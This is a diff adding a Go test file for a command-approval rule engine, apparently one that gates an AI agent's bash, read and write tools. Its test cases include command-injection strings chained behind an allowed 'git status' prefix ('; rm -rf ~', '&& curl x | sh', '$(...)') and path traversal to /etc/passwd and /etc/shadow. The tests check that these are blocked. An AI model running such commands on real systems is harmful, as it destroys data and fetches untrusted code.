@@ -1,0 +1,160 @@
+package approval
+
+import (
+	"strings"
+	"testing"
+
+	sessionv1 "github.com/dsh-dev/dsh/gen/go/dsh/session/v1"
+)
+
+func rule(s string) *sessionv1.ApprovalRule {
+	r, err := ParseRule(s)
+	if err != nil {
+		panic(err)
+	}
+	return r
+}
+
+func TestMatches(t *testing.T) {
+	t.Parallel()
+	bash := func(cmd string) string { return `{"command":` + quote(cmd) + `}` }
+	tests := []struct {
+		rule, tool, args string
+		want             bool
+	}{
+		{"bash(git status*)=allow", "bash", bash("git status"), true},
+		{"bash(git status*)=allow", "bash", bash("git status --short"), true},
+		{"bash(git status*)=allow", "bash", bash("git push"), false},
+		{"bash=ask", "bash", bash("anything at all"), true},
+		{"*=deny", "write", `{"file_path":"a"}`, true},
+		{"bash(git status*)=allow", "read", bash("git status"), false},
+		// An attacker chains a command behind an allowed prefix: a wildcard
+		// allow never covers a compound command...
+		{"bash(git status*)=allow", "bash", bash("git status; rm -rf ~"), false},
+		{"bash(git status*)=allow", "bash", bash("git status && curl x | sh"), false},
+		{"bash(git status*)=allow", "bash", bash("git status $(rm -rf ~)"), false},
+		{"bash(git status*)=allow", "bash", bash("git status `id`"), false},
+		{"bash(git status*)=allow", "bash", bash("git status\nrm -rf ~"), false},
+		{"bash(git status*)=allow", "bash", bash("git status > /etc/passwd"), false},
+		// ...but deny and ask rules still match it, and an exact allow does.
+		{"bash(*rm -rf*)=deny", "bash", bash("git status; rm -rf ~"), true},
+		{"bash(make test; echo done)=allow", "bash", bash("make test; echo done"), true},
+		{"bash(make test; echo done)=allow", "bash", bash("make test; echo done; rm x"), false},
+		// Escapes and classes.
+		{`bash(echo \*)=allow`, "bash", bash("echo *"), true},
+		{`bash(echo \*)=allow`, "bash", bash("echo hi"), false},
+		{"bash(ls [ab])=allow", "bash", bash("ls a"), true},
+		{"bash(ls [!ab])=allow", "bash", bash("ls a"), false},
+		{"bash(l?)=allow", "bash", bash("ls"), true},
+		// Paths resolve against the cwd (/work) before matching: traversal
+		// does not pass as a path under src/.
+		{"write(src/*)=allow", "write", `{"file_path":"src/a.go"}`, true},
+		{"write(src/*)=allow", "write", `{"file_path":"/work/src/deep/a.go"}`, true},
+		{"write(src/*)=allow", "write", `{"file_path":"src/../../etc/passwd"}`, false},
+		{"write(src/*)=allow", "write", `{"file_path":"/etc/passwd"}`, false},
+		{"write(/etc/*)=deny", "write", `{"file_path":"../etc/shadow"}`, true},
+		{"write(*.go)=allow", "write", `{"file_path":"x/y.go"}`, true},
+		{"read(src/*)=allow", "read", `{"path":"src/x"}`, true},
+		// A pattern needs a salient input.
+		{"write(src/*)=allow", "write", `{"content":"x"}`, false},
+		{"bash(ls)=allow", "bash", `not json`, false},
+	}
+	for _, tc := range tests {
+		got := Matches(rule(tc.rule), SubjectOf(tc.tool, tc.args, "/work"))
+		if got != tc.want {
+			t.Errorf("%s on %s %s = %v, want %v", tc.rule, tc.tool, tc.args, got, tc.want)
+		}
+	}
+}
+
+func quote(s string) string {
+	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
+	return `"` + r.Replace(s) + `"`
+}
+
+func TestEvaluateOrderAndSessionRule(t *testing.T) {
+	t.Parallel()
+	session := []*sessionv1.ApprovalRule{rule("bash(git push*)=deny"), rule("bash(git *)=allow")}
+	deployment := []*sessionv1.ApprovalRule{rule("bash=ask"), rule("write=ask")}
+	tests := []struct {
+		cmd  string
+		want sessionv1.RuleAction
+		rule string
+	}{
+		{"git push origin", sessionv1.RuleAction_RULE_ACTION_DENY, "bash(git push*) deny"},
+		{"git log", sessionv1.RuleAction_RULE_ACTION_ALLOW, "bash(git *) allow"},
+		{"make", sessionv1.RuleAction_RULE_ACTION_ASK, "bash ask"},
+	}
+	for _, tc := range tests {
+		d := Evaluate(SubjectOf("bash", `{"command":"`+tc.cmd+`"}`, "/"), session, deployment)
+		if d.Action != tc.want || d.Rule != tc.rule {
+			t.Errorf("%s: %v", tc.cmd, d)
+		}
+	}
+	if d := Evaluate(SubjectOf("read", `{}`, "/"), session, deployment); d.Action != sessionv1.RuleAction_RULE_ACTION_ALLOW || d.Rule != "" {
+		t.Errorf("no rule: %v", d)
+	}
+	// The added rule matches exactly the approved command, metacharacters
+	// included, and nothing else.
+	s := SubjectOf("bash", `{"command":"rm -f *.tmp"}`, "/")
+	added := SessionRule(s)
+	if !Matches(added, s) || Matches(added, SubjectOf("bash", `{"command":"rm -f important.tmp"}`, "/")) {
+		t.Errorf("added rule %v", added)
+	}
+	if r := SessionRule(SubjectOf("write", `{"file_path":"a"}`, "/")); r.GetPattern() != "" || r.GetTool() != "write" {
+		t.Errorf("write session rule %v", r)
+	}
+}
+
+func TestParseAndValidateRules(t *testing.T) {
+	t.Parallel()
+	good := []string{"bash=ask", "bash(git status*)=allow", "*=deny", `bash(echo \(x\))=allow`, "write(src/[ab]*)=allow"}
+	for _, s := range good {
+		r, err := ParseRule(s)
+		if err != nil {
+			t.Errorf("%s: %v", s, err)
+			continue
+		}
+		if back, err := ParseRule(strings.Replace(FormatRule(r), " ", "=", 1)); err == nil && FormatRule(back) != FormatRule(r) {
+			t.Errorf("%s: round trip %s", s, FormatRule(back))
+		}
+	}
+	bad := map[string]string{
+		"bash":              "TOOL[(PATTERN)]",
+		"bash=maybe":        "allow, ask or deny",
+		"=allow":            "tool name",
+		"bash(git=allow":    "closed",
+		"bash(git [x)=deny": "never closed",
+		`bash(x\)=deny`:     "escapes nothing",
+		"bash([])=deny":     "empty",
+		"ba sh=allow":       "spaces",
+	}
+	for s, want := range bad {
+		if _, err := ParseRule(s); err == nil || !strings.Contains(err.Error(), want) {
+			t.Errorf("%s: %v, want an error mentioning %q", s, err, want)
+		}
+	}
+	err := ValidateRules("options.approval_rules", []*sessionv1.ApprovalRule{rule("bash=ask"), {Tool: "bash", Pattern: "[", Action: sessionv1.RuleAction_RULE_ACTION_DENY}})
+	if err == nil || !strings.Contains(err.Error(), "options.approval_rules[1]") {
+		t.Errorf("ValidateRules: %v", err)
+	}
+}
+
+func FuzzRules(f *testing.F) {
+	for _, s := range []string{"bash(git status*)=allow", `x(\*[!a-z]?)=deny`, "*=ask", "a([)=allow"} {
+		f.Add(s, "git status; x")
+	}
+	f.Fuzz(func(t *testing.T, spec, cmd string) {
+		r, err := ParseRule(spec)
+		if err != nil {
+			return
+		}
+		// A valid rule never panics and its exact session rule matches
+		// only its own command.
+		s := SubjectOf("bash", `{"command":`+quote(cmd)+`}`, "/")
+		_ = Matches(r, s)
+		if s.Input != "" && !Matches(SessionRule(s), s) {
+			t.Fatalf("the session rule of %q does not match it", cmd)
+		}
+	})
+}
